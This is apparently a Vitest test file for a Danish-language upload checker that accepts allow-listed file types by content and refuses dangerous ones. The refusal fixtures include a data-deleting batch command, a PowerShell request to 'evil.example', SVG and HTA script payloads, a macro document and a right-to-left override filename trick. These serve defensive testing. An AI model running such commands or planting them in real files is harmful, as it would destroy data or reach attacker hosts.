import { describe, expect, it } from "vitest";
import { checkUpload } from "./upload.ts";

const bytes = (...parts: (string | number[])[]) =>
  new Uint8Array(parts.flatMap((p) => (typeof p === "string" ? [...Buffer.from(p, "latin1")] : p)));
const ZIP = [0x50, 0x4b, 3, 4];
const ooxml = (part: string) => bytes(ZIP, "....[Content_Types].xml....", part);

describe("checkUpload (the page forms' check through the files allow-list, issue 18.8)", () => {
  const max = 4096;
  it.each([
    ["a.pdf", bytes("%PDF-1.7 ..."), "application/pdf"],
    [
      "b.DOCX",
      ooxml("word/document.xml"),
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ],
    ["c.xlsx", ooxml("xl/workbook.xml"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"],
    [
      "c.pptx",
      ooxml("ppt/presentation.xml"),
      "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ],
    [
      "d.odt",
      bytes(ZIP, "mimetypeapplication/vnd.oasis.opendocument.text"),
      "application/vnd.oasis.opendocument.text",
    ],
    [
      "d.ods",
      bytes(ZIP, "mimetypeapplication/vnd.oasis.opendocument.spreadsheet"),
      "application/vnd.oasis.opendocument.spreadsheet",
    ],
    ["e.txt", new Uint8Array(Buffer.from("Referat – æøå\r\n", "utf8")), "text/plain; charset=utf-8"],
    ["e.csv", new Uint8Array(Buffer.from("a;b\r\n1;2\r\n", "utf8")), "text/csv; charset=utf-8"],
    ["f.png", bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), "image/png"],
    ["g.jpeg", bytes([0xff, 0xd8, 0xff, 0xe0]), "image/jpeg"],
    ["h.gif", bytes("GIF89a..."), "image/gif"],
    ["i.webp", bytes("RIFF....WEBPVP8 "), "image/webp"],
  ])("accepts %s as %s by its content", (name, content, mime) => {
    expect(checkUpload(name, content, false, max)).toEqual({ ok: true, mimeType: mime, fileName: name });
  });

  it.each([
    ["x.exe", bytes("MZ\x90\x00")],
    ["x.hta", bytes("<html><script>alert(1)</script></html>")],
    ["x.bat", bytes("@echo off\r\ndel C:\\*.*\r\n")],
    ["x.cmd", bytes("start calc.exe\r\n")],
    ["x.js", bytes("WScript.Echo('x');")],
    ["x.vbs", bytes('MsgBox "x"')],
    ["x.ps1", bytes("Invoke-WebRequest http://evil.example")],
    ["x.html", bytes("<!doctype html><p>x</p>")],
    ["x.svg", bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ["x.docm", bytes("junk that claims to be a macro document")],
    ["x.docx", ooxml("word/document.xml word/vbaProject.bin")],
    ["x.zip", bytes(ZIP, "some/file.txt")],
    ["x.pdf", bytes("MZ program")],
    ["x.docx", ooxml("xl/workbook.xml")],
    ["x.txt", bytes([0x41, 0, 0x42])],
    ["x.txt", bytes([0xc3, 0x28])],
    ["x.doc", bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])],
  ])("refuses %s with a Danish message", (name, content) => {
    const check = checkUpload(name, content, false, max);
    expect(check.ok).toBe(false);
    expect(check.ok ? "" : check.error).toMatch(/ikke tilladt|ikke en gyldig|makroer/);
  });

  it("strips bidi and control characters from the name (U+202E turns 'gpj.exe' around)", () => {
    const check = checkUpload("faktura\u202Egpj.txt", bytes("tekst"), false, max);
    expect(check).toEqual({ ok: true, mimeType: "text/plain; charset=utf-8", fileName: "fakturagpj.txt" });
  });

  it("refuses empty and too large files and a missing file, in Danish", () => {
    expect(checkUpload("x.pdf", new Uint8Array(), false, max)).toEqual({ ok: false, error: "Filen er tom." });
    expect(checkUpload("x.pdf", bytes("%PDF"), true, 2 * 1024 * 1024)).toEqual({
      ok: false,
      error: "Filen er for stor. Den største tilladte størrelse er 2 MB.",
    });
    expect(checkUpload("", bytes("%PDF"), false, max)).toEqual({ ok: false, error: "Vælg en fil." });
  });
});
